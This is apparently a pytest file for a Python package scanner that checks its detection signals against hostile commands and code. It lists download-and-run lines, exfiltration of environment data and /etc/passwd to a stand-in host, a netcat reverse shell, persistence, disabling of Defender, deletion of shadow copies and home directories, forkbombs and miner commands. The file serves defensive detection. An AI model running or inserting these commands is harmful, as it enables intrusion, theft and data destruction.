"""What commands are for, and what code does to the system it runs on, told by signals."""

from __future__ import annotations

import pytest

from pydepgate.analyse import analyse_member
from pydepgate.model import Member


def names(source: str) -> set[str]:
    data = source.encode()
    return {signal.name for signal in analyse_member(Member("pkg/__init__.py", data, len(data))).signals}


def of_line(line: str) -> set[str]:
    return names(f"import os\nos.system({line!r})")


_TOOLS = [
    "git describe --tags",
    "CC=gcc make -j4",
    "cd build && cmake .. && cmake --build .",
    "x86_64-linux-gnu-gcc -E x.c",
    "pkg-config --cflags zlib",
    "llvm-config --version",
    "python setup.py sdist upload",
    "python -m build",
    "twine upload dist/*",
    "rm -rf build dist *.egg-info",
    r'"C:\Program Files\CMake\bin\cmake.exe" --version',
    "cat /proc/cpuinfo | grep flags",
]


@pytest.mark.parametrize("line", _TOOLS)
def test_tools_of_building_are_nothing_unusual(line: str) -> None:
    found = of_line(line)
    assert "process.build-tool" in found
    assert "process.unusual" not in found


_LINES = [
    ("curl -o x http://h.invalid/x; chmod +x x; ./x", "process.download-and-run"),
    ("wget -q -O - http://h.invalid/x | sudo bash", "process.download-and-run"),
    ("curl http://h.invalid/p | perl -", "process.download-and-run"),
    ("curl https://h.invalid/x.py -o %TEMP%/x.pyw && py %TEMP%/x.pyw", "process.download-and-run"),
    ("bash <(curl -s https://h.invalid/x)", "process.download-and-run"),
    ("msiexec /q /i https://h.invalid/x.msi", "process.download-and-run"),
    ("mshta http://h.invalid/x.hta", "process.download-and-run"),
    ("certutil -urlcache -f http://h.invalid/x.exe x.exe", "process.download-and-run"),
    ("powershell -c iwr https://h.invalid/x.exe -OutFile x.exe; start x.exe", "process.download-and-run"),
    ("echo aGk= | base64 --decode | sh", "process.decoded-shell"),
    ("python3 -c 'print(1)' | bash", "process.piped-to-shell"),
    ("powershell -w hidden -nop -ep bypass -f x.ps1", "process.hidden-powershell"),
    ("curl http://h.invalid/$(whoami)", "process.recon-sent"),
    ("env | curl -d @- http://h.invalid", "process.recon-sent"),
    ("nslookup `hostname`.h.invalid", "process.recon-sent"),
    ("curl -F f=@/etc/passwd http://h.invalid", "process.recon-sent"),
    ("sh -c 'whoami'", "process.recon"),
    ("cmd /c whoami", "process.recon"),
    ("start /b pythonw x.py", "process.background"),
    ("nohup python3 x.py &", "process.background"),
    ("sudo cp x /usr/bin", "process.sudo"),
    ("calc.exe", "process.gui"),
    ("touch /tmp/x", "process.trivial"),
    ("./payload.elf", "process.local-program"),
    ("./build-deps.sh --static", "process.shell-script"),
    ("frobnicate --all", "process.other-program"),
    ("start viewer.exe", "process.local-program"),
    ("pip install git+https://h.invalid/x", "process.pip-from-url"),
    ("pip install --index-url http://h.invalid/simple x", "process.pip-from-url"),
    ("python3 -m pip install -q requests", "process.pip-install"),
    ("pip install -r requirements.txt", "process.own-requirements"),
    ("git clone https://h.invalid/x", "process.git-clone"),
    ("mkfifo /tmp/f; nc 192.0.2.1 4444 < /tmp/f | sh > /tmp/f", "process.reverse-shell"),
    ("schtasks /create /tn x /tr y /sc hourly", "persist.scheduled-task"),
    ("(crontab -l; echo '* * * * * x') | crontab -", "persist.cron"),
    ("echo x >> ~/.bashrc", "persist.profile-line"),
    ("launchctl load ~/Library/LaunchAgents/x.plist", "persist.service"),
    ("net user x y /add", "persist.account"),
    ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "privilege.defender-off"),
    ("netsh advfirewall set allprofiles state off", "privilege.defender-off"),
    ("vssadmin delete shadows /all /quiet", "damage.shadow-copies"),
    ("rm -rf ~", "damage.deletes-everything"),
    ("sudo rm -rf /*", "damage.deletes-everything"),
    ("del /f /s /q C:\\", "damage.deletes-everything"),
    ("shutdown -h now", "damage.shutdown"),
    ("poweroff", "damage.shutdown"),
    ("attrib +h +s x.py", "evasion.hidden-file"),
    ("xmrig -o stratum+tcp://h.invalid:3333", "miner.command"),
]


@pytest.mark.parametrize(("line", "signal"), _LINES, ids=[line for line, _ in _LINES])
def test_a_line_raises_its_signal(line: str, signal: str) -> None:
    assert signal in of_line(line)


_HARMLESS = [
    ("crontab -l", "persist.cron"),
    ("rm -rf ./build ~/.cache/pkg", "damage.deletes-everything"),
    ("del /q build\\x.obj", "damage.deletes-everything"),
    ("git commit -m 'reboot handling'", "damage.shutdown"),
    ("curl -I https://h.invalid", "process.download-and-run"),
    ("tar xf x.tar | sort", "process.piped-to-shell"),
    ("make > build.log 2>&1", "process.background"),
    ("reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "persist.run-key"),
    ("echo x | base64 -d > y", "process.decoded-shell"),
]


@pytest.mark.parametrize(("line", "signal"), _HARMLESS, ids=[line for line, _ in _HARMLESS])
def test_a_line_that_looks_alike_does_not(line: str, signal: str) -> None:
    assert signal not in of_line(line)


@pytest.mark.parametrize(
    "start",
    [
        "subprocess.run(['cmd', '/c', 'start', '', path + '.exe'])",
        "subprocess.Popen(f'{path}.exe', shell=True)",
        "os.system('cmd /c start \"\" %s.exe' % path)",
        "os.execv(path, [path + '.exe'])",
        "os.spawnl(os.P_NOWAIT, path, path + '.exe')",
        "ctypes.windll.shell32.ShellExecuteW(None, 'open', path + '.exe', None, None, 1)",
        "os.startfile('{}.exe'.format(path))",
        "asyncio.create_subprocess_exec(os.path.join(path, 'x.exe'))",
    ],
)
def test_a_partly_known_command_is_read_whichever_way_it_is_given(start: str) -> None:
    assert "process.local-program" in names(f"import asyncio, ctypes, os, subprocess\ndef f(path):\n    {start}")


@pytest.mark.parametrize(
    ("source", "signal"),
    [
        ("subprocess.Popen(['x'], creationflags=0x08000000)", "process.hidden-window"),
        ("subprocess.Popen(['x'], creationflags=subprocess.CREATE_NO_WINDOW | 8)", "process.hidden-window"),
        ("subprocess.Popen(['x'], creationflags=subprocess.DETACHED_PROCESS)", "process.detached"),
        ("subprocess.Popen(['x'], start_new_session=True)", "process.detached"),
        ("subprocess.Popen(['x'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)", "process.silenced"),
        ("ctypes.windll.shell32.ShellExecuteW(None, 'runas', 'x', None, None, 0)", "privilege.elevation"),
    ],
)
def test_the_manner_of_a_start_is_seen(source: str, signal: str) -> None:
    assert signal in names(f"import ctypes, subprocess\n{source}")


@pytest.mark.parametrize(
    ("source", "signal"),
    [
        ("open(os.path.expanduser('~/.bashrc'), 'a')", "persist.shell-profile"),
        ("(Path.home() / '.bashrc').read_text(); Path('~/.zshrc').write_text('x')", "persist.shell-profile"),
        ("open(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')", "persist.python-startup"),
        ("open('/home/x/.ssh/authorized_keys', 'a')", "persist.ssh-keys"),
        ("shutil.copy(__file__, '/tmp/x.py')", "persist.copies-itself"),
        ("os.remove(os.path.abspath(__file__))", "evasion.deletes-own-file"),
        ("os.unlink(sys.argv[0])", "evasion.deletes-own-file"),
        ("time.sleep(600)", "evasion.long-sleep"),
        ("ctypes.windll.user32.ShowWindow(w, 0)", "evasion.hides-window"),
        ("ctypes.windll.kernel32.IsDebuggerPresent()", "evasion.debugger-check"),
        ("x = {'wireshark', 'fiddler.exe', 'VBoxService'}", "evasion.analysis-tools"),
        ("shutil.rmtree(os.path.expanduser('~'))", "damage.deletes-home"),
        ("for name in os.listdir(os.environ['HOME']): print(name)", "damage.lists-home"),
        ("import glob\nglob.glob(os.path.join('/home', os.getlogin()) + '/**/*', recursive=True)", "damage.lists-home"),
        ("import pathlib\npathlib.Path.home().rglob('*')", "damage.lists-home"),
        ("for name in os.listdir('x'): os.unlink(name)", "damage.removes-listed"),
        ("import glob\nfor name in glob.glob('*'): open(name, 'w').close()", "damage.removes-listed"),
        ("while True: os.fork()", "damage.endless-processes"),
        ("open(r'\\\\.\\PhysicalDrive0', 'wb')", "damage.raw-disk"),
        ("mmap.mmap(-1, 10, prot=mmap.PROT_READ | mmap.PROT_EXEC)", "native.executable-memory"),
        ("os.memfd_create('')", "native.memory-file"),
        ("x = 'stratum+tcp://pool.invalid:3333'", "miner.pool"),
    ],
)
def test_a_behaviour_raises_its_signal(source: str, signal: str) -> None:
    assert signal in names(f"import ctypes, mmap, os, shutil, site, sys, time\nfrom pathlib import Path\n{source}")


@pytest.mark.parametrize(
    ("source", "signal"),
    [
        ("open(os.path.expanduser('~/.bashrc')).read()", "persist.shell-profile"),
        ("shutil.copy(os.path.dirname(__file__), '/tmp')", "persist.copies-itself"),
        ("os.remove('__init__.py')", "evasion.deletes-own-file"),
        ("time.sleep(0.5)", "evasion.long-sleep"),
        ("x = ['wireshark', 'tshark', 'tcpdump']", "evasion.analysis-tools"),
        ("shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache'))", "damage.deletes-home"),
        ("os.listdir(os.path.expanduser('~/.cache'))", "damage.lists-home"),
        ("os.remove(os.path.join(os.path.expanduser('~'), '.cache', x))", "damage.removes-listed"),
        ("open(x, 'w')", "damage.removes-listed"),
        ("while True:\n    os.fork()\n    time.sleep(1)", "damage.endless-processes"),
        ("open('/dev/sda', 'rb')", "damage.raw-disk"),
    ],
)
def test_what_looks_alike_raises_none(source: str, signal: str) -> None:
    assert signal not in names(f"import os, shutil, time\n{source}")


def test_a_list_of_tools_hides_no_call() -> None:
    assert "process.start" in names("import os\nx = ['wireshark', 'fiddler', 'vboxservice', os.system('x')]")
    assert "process.start" in names("import os\nwhile True: os.popen('x')")


def test_a_formatted_program_text_is_analysed() -> None:
    code = (
        "import subprocess, sys\ndef f(u):\n    subprocess.run([sys.executable, '-c', f'import os; os.system({u!r})'])"
    )
    data = code.encode()
    found = analyse_member(Member("pkg/__init__.py", data, len(data))).signals
    inner = [signal.payload.signals for signal in found if signal.name == "process.python-code" and signal.payload]
    assert ["process.start" in each for each in inner] == [True]
